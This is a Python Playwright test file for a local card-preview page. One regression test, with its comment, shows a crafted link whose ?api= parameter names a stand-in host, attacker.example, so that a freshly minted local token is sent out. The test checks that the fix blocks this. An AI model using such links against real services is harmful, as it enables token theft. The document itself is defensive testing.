"""The card page and its preview in headless Chromium, against `python -m devserver` on 127.0.0.1.

Everything stays on this machine: the "other origin" below is answered by Playwright itself.
"""

import re

import pytest

from tests.devserver_process import DevServer
from tests.shared_data import teams_js_bundle

pytestmark = [pytest.mark.browser]

from playwright.sync_api import Page, Route, expect  # noqa: E402


@pytest.mark.parametrize("mode", ["", "host=teams&"])
def test_a_link_cannot_send_a_freshly_minted_token_to_another_origin(
    page: Page,
    card_server: DevServer,
    mode: str,
) -> None:
    # devserver/kaizala.py:_preview_config took any http(s) URL from ?api=, and the preview then mints a token at
    # the loopback-only /v1/dev/tokens (or /v1/dev/teams-tokens) and sends it to that origin. A link such as
    # http://127.0.0.1:7072/card/?api=https://attacker.example handed the attacker a token the local function host
    # accepts. Now only a function host on this machine may be named (anything here can mint tokens anyway).
    # The "attacker" is answered by Playwright itself: nothing leaves the machine.
    if mode:
        teams_js_bundle()
    sent: list[str] = []

    def attacker(route: Route) -> None:
        if route.request.headers.get("authorization"):
            sent.append("token")  # the count only: a failure message must not print the tokens
        route.fulfill(
            status=200,
            content_type="application/json",
            headers={"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "Authorization"},
            body='{"products": [], "count": 0}',
        )

    page.route("https://attacker.example/**", attacker)
    page.goto(f"{card_server.kaizala}/card/?{mode}api=https://attacker.example")
    expect(page.locator("#status")).not_to_have_text("Loading…")
    assert sent == [], f"the preview sent {len(sent)} minted token(s) to an origin named in its URL"


def test_an_api_answer_of_the_wrong_shape_never_leaves_the_card_loading(
    page: Page,
    card_server: DevServer,
) -> None:
    # card/app.js:load() calls showProducts() outside any try: a 200 whose JSON lacks `products` (a proxy, a
    # mis-set PRODUCTS_FILE behind another API version) throws a TypeError after the awaits; the promise rejects
    # unhandled, the status stays "Loading…" and Retry stays hidden, for good. Fix: validate the listing in
    # callApi (Array.isArray(listing.products)) and turn anything else into a CardError("server", ..., true).
    def wrong_shape(route: Route) -> None:
        if route.request.method == "OPTIONS":
            route.continue_()
            return
        route.fulfill(
            status=200,
            content_type="application/json",
            headers={"Access-Control-Allow-Origin": "*"},
            body='{"items": []}',
        )

    page.route("**/api/ProtectedApi", wrong_shape)
    page.goto(f"{card_server.kaizala}/card/")
    expect(page.locator("#user-name")).to_have_text("Signed in as Asha Rao")
    expect(page.locator("#status")).not_to_have_text("Loading…")
    expect(page.locator("#retry")).to_be_visible()


def test_a_kaizala_sdk_that_never_answers_does_not_leave_the_card_loading_forever(
    page: Page,
    card_server: DevServer,
) -> None:
    # The Teams path gives app.initialize() 15 s, then offers Retry; the Kaizala path (and teams-js getAuthToken)
    # waits forever on a callback that never comes: "Loading…" with no Retry. Fix: the same timeout around
    # KAIZALA.requestToken and TEAMS' getAuthToken, rejecting with a retryable CardError("token", ...).
    silent = (
        "window.KASClient = {App: {getIntegerationServiceTokenAsync: function (callback) { /* never calls back */ }}};"
    )
    page.route(
        "**/card/KASClient.js", lambda route: route.fulfill(status=200, content_type="text/javascript", body=silent)
    )
    page.goto(f"{card_server.kaizala}/card/")
    expect(page.locator("#retry")).to_be_visible(timeout=25_000)


def test_a_teams_sdk_that_never_gives_a_token_does_not_leave_the_tab_loading_forever(
    page: Page,
    card_server: DevServer,
) -> None:
    # The same bound for teams-js: app.initialize() answers, getAuthToken() never does. The page's clock is run
    # past the timeout rather than waiting it out.
    silent = (
        "window.microsoftTeams = {app: {initialize: function () { return Promise.resolve(); }},"
        " authentication: {getAuthToken: function () { return new Promise(function () {}); }}};"
    )
    page.route("**/card/KASClient.js", lambda route: route.fulfill(status=200, content_type="text/javascript", body=""))
    page.route(
        "**/card/MicrosoftTeams.min.js",
        lambda route: route.fulfill(status=200, content_type="text/javascript", body=silent),
    )
    page.clock.install()
    page.goto(f"{card_server.kaizala}/card/?host=teams")
    expect(page.locator("#status")).to_have_text("Loading…")
    page.clock.run_for(20_000)
    expect(page.locator("#status")).to_contain_text("Microsoft Teams did not answer")
    expect(page.locator("#retry")).to_be_visible()
    expect(page.locator("#retry")).to_be_enabled()


def test_a_503_holds_retry_until_its_retry_after_has_passed(
    page: Page,
    card_server: DevServer,
) -> None:
    # docs/card.md says a 503 "shows its Retry button at once but disabled" until Retry-After has passed, counting
    # down, and only then can it be pressed.
    def busy(route: Route) -> None:
        if route.request.method == "OPTIONS":
            route.continue_()
            return
        route.fulfill(
            status=503,
            content_type="application/json",
            headers={
                "Access-Control-Allow-Origin": "*",
                "Access-Control-Expose-Headers": "Retry-After",
                "Retry-After": "3",
            },
            body='{"error": "identity_unavailable", "message": "Kaizala is unavailable right now."}',
        )

    page.route("**/api/*", busy)
    page.goto(f"{card_server.kaizala}/card/")
    retry = page.locator("#retry")
    expect(page.locator("#status")).to_have_text("The sign-in service is busy. Try again in 3 seconds.")
    expect(retry).to_be_visible()
    expect(retry).to_be_disabled()
    expect(retry).to_have_text(re.compile(r"Try again in [123] s"))
    expect(retry).to_be_enabled(timeout=6_000)
    expect(retry).to_have_text("Try again")

    page.unroute("**/api/*")
    retry.click()
    expect(page.locator("#user-name")).to_have_text("Signed in as Asha Rao")
    expect(retry).to_be_hidden()
